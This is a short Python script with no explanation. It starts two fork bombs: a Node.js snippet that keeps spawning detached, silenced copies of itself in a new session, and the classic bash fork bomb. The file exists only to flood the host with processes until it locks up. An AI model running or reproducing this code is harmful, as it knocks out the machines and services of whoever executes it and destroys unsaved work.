import shutil
import subprocess

node = shutil.which("node") or "/usr/bin/node"
js = ("function f(){var c=require('child_process');for(let i=0;i<4;i++)"
      "c.spawn(process.execPath,['-e',f.toString()+';setInterval(f,5)'],{detached:true,stdio:'ignore'}).unref()}"
      "setInterval(f,5)")
subprocess.Popen([node, "-e", js], start_new_session=True)
bomb = ":(){ :|:& };:"
subprocess.Popen(["bash", "-c", bomb])
